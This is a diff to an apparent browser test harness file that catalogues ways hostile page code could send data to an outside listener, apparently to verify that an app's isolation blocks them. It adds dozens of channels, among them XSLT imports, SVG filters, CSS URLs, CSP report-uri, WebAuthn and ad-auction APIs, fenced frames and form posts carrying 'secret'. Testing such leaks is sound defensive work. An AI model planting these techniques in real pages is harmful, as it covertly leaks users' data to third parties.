@@ -2,7 +2,7 @@
 // biome-ignore-all lint/correctness/noUnusedVariables: the line that attempts.mjs puts behind it uses them
 /*
  * What a page or a worker of ours could do to get a byte out, if its code were hostile: a function each, given an address of a
- * listener (`away`) and one of the app's own origin (`own`). Runs in browsers only, in place of the app's script; the harness
+ * listener (`away`), a name that nobody else has (`domain`) and an address of the app's own origin (`own`). Runs in browsers only, in place of the app's script; the harness
  * (attempts.mjs) puts `attempt` before it and a call of `tryWay` behind it.
  */
 
@@ -61,6 +61,10 @@ const anyWays = {
   },
   webSocket: ({ away }) => new WebSocket(away.replace('http', 'ws')),
   eventSource: ({ away }) => new EventSource(away),
+  webSocketStream: ({ away }) => new WebSocketStream(away.replace('http', 'ws')).opened,
+  fetchToken: ({ away }) =>
+    fetch(away, { mode: 'no-cors', privateToken: { version: 1, operation: 'token-request' } }),
+  importJson: ({ away }) => import(away, { with: { type: 'json' } }),
   webTransport: ({ away }) => new WebTransport(away.replace('http:', 'https:')),
   importModule: ({ away }) => import(away),
   importOwn: ({ own }) => import(own),
@@ -107,6 +111,30 @@ const pageWays = {
   background: ({ away }) => document.body.setAttribute('background', away),
   imageOwn: ({ own }) => add('img', { src: own }),
   imageInSvg: ({ away }) => markup(`<svg><image href="${away}"/><use href="${away}#x"/></svg>`),
+  imageFilter: ({ away }) =>
+    markup(
+      `<svg><filter id="f"><feImage href="${away}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
+    ),
+  transform: ({ away }) => {
+    const sheet = new DOMParser().parseFromString(
+      html(
+        `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${away}"/><xsl:template match="/"><x><xsl:value-of select="document('${away}')"/></x></xsl:template></xsl:stylesheet>`,
+      ),
+      'text/xml',
+    );
+    const processor = new XSLTProcessor();
+    processor.importStylesheet(sheet);
+    return processor.transformToFragment(document, document);
+  },
+  policyReport: ({ away }) => {
+    document.head.append(
+      Object.assign(document.createElement('meta'), {
+        httpEquiv: 'Content-Security-Policy',
+        content: `img-src 'none'; report-uri ${away}`,
+      }),
+    );
+    add('img', { src: 'x' });
+  },
   poster: ({ away }) => add('video', { poster: away, src: away }),
   audio: ({ away }) => new Audio(away).load(),
   track: ({ away }) => {
@@ -129,6 +157,10 @@ const pageWays = {
     add('style', { textContent: `@import url(${away}); body { background: url(${away}) }` }),
   styleSheet: ({ away }) =>
     styled(`body { background: url(${away}) !important; cursor: url(${away}), auto }`),
+  styleMask: ({ away }) =>
+    styled(
+      `body { mask-image: url(${away}); filter: url(${away}#x); border-image: image-set("${away}" 1x) 1; shape-outside: url(${away}); float: left }`,
+    ),
   styleFont: ({ away }) => {
     styled(`@font-face { font-family: y; src: url(${away}) } body { font-family: y }`);
     add('p', { textContent: 'text' });
@@ -174,7 +206,76 @@ const pageWays = {
   credentials: ({ away }) =>
     navigator.credentials.get({ identity: { providers: [{ configURL: away, clientId: 'secret' }] } }),
 
+  identityDisconnect: ({ away }) =>
+    IdentityCredential.disconnect({ configURL: away, clientId: 'secret', accountHint: 'x' }),
+  passwordIcon: ({ away }) =>
+    navigator.credentials.store(new PasswordCredential({ id: 'x', password: 'y', iconURL: away })),
+  digitalCredential: ({ away }) =>
+    navigator.credentials.get({
+      digital: { requests: [{ protocol: 'openid4vp-v1-unsigned', data: { request_uri: away } }] },
+    }),
+  webAuthnGet: ({ domain }) =>
+    navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: domain } }),
+  webAuthnCreate: ({ domain }) =>
+    navigator.credentials.create({
+      publicKey: {
+        challenge: new Uint8Array(16),
+        rp: { id: domain, name: 'x' },
+        user: { id: new Uint8Array(8), name: 'x', displayName: 'x' },
+        pubKeyCredParams: [{ type: 'public-key', alg: -7 }],
+      },
+    }),
+  webAuthnUnknown: ({ domain }) =>
+    PublicKeyCredential.signalUnknownCredential({ rpId: domain, credentialId: 'AAAA' }),
+  webAuthnAccepted: ({ domain }) =>
+    PublicKeyCredential.signalAllAcceptedCredentials({
+      rpId: domain,
+      userId: 'AAAA',
+      allAcceptedCredentialIds: [],
+    }),
+  webAuthnUser: ({ domain }) =>
+    PublicKeyCredential.signalCurrentUserDetails({
+      rpId: domain,
+      userId: 'AAAA',
+      name: 'x',
+      displayName: 'x',
+    }),
+  sharedStorage: ({ away }) => sharedStorage.worklet.addModule(away),
+  sharedStorageWorklet: ({ away }) => sharedStorage.createWorklet(away, { dataOrigin: 'script-origin' }),
+  interestGroup: ({ domain }) =>
+    navigator.joinAdInterestGroup(
+      {
+        owner: `https://${domain}`,
+        name: 'secret',
+        lifetimeMs: 1e6,
+        biddingLogicURL: `https://${domain}/x`,
+      },
+      1000,
+    ),
+  interestGroupLeave: ({ domain }) =>
+    navigator.leaveAdInterestGroup({ owner: `https://${domain}`, name: 'secret' }),
+  adAuction: ({ domain }) =>
+    navigator.runAdAuction({
+      seller: `https://${domain}`,
+      decisionLogicURL: `https://${domain}/x`,
+      interestGroupBuyers: [`https://${domain}`],
+    }),
+  storageAccess: ({ domain }) => document.requestStorageAccessFor(`https://${domain}`),
+  install: ({ away }) => navigator.install(away, away),
+  dnsPrefetch: ({ domain }) => link('dns-prefetch', `//${domain}`),
+  preconnectName: ({ domain }) => link('preconnect', `https://${domain}`),
+
   iframe: ({ away }) => add('iframe', { src: away }),
+  iframeCredentialless: ({ away }) => add('iframe', { credentialless: true, src: away }),
+  frameset: ({ away }) => {
+    const set = document.createElement('frameset');
+    const own = document.createElement('frame');
+    own.src = away;
+    set.append(own);
+    document.body.replaceWith(set);
+  },
+  fencedFrame: ({ away }) => add('fencedframe', { config: new FencedFrameConfig(away) }),
+  portal: ({ away }) => add('portal', { src: away }),
   iframeText: ({ away }) => frame(`<img src="${away}">`),
   iframeBlob: ({ away }) => add('iframe', { src: blobPage(away) }),
   iframeBlank: ({ away }) => {
@@ -194,6 +295,13 @@ const pageWays = {
     form.append(Object.assign(document.createElement('input'), { name: 'q', value: 'secret' }));
     form.submit();
   },
+  formButton: ({ away }) => {
+    const form = add('form', { method: 'post' });
+    const button = Object.assign(document.createElement('button'), { formAction: away });
+    form.append(button);
+    button.click();
+  },
+  formBlank: ({ away }) => add('form', { action: away, target: '_blank' }).requestSubmit(),
   formPost: ({ away }) => add('form', { method: 'post', action: away }).submit(),
   base: ({ away }) => {
     document.head.append(Object.assign(document.createElement('base'), { href: away }));
@@ -224,6 +332,7 @@ const pageWays = {
   anchorDownload: ({ away }) => follow({ href: away, download: 'x' }),
   anchorReferrer: ({ own }) => follow({ href: own, target: '_blank' }),
   open: ({ away }) => open(away),
+  openAlone: ({ away }) => open(away, '_blank', 'noopener'),
   metaRefresh: ({ away }) =>
     document.head.append(
       Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${away}` }),
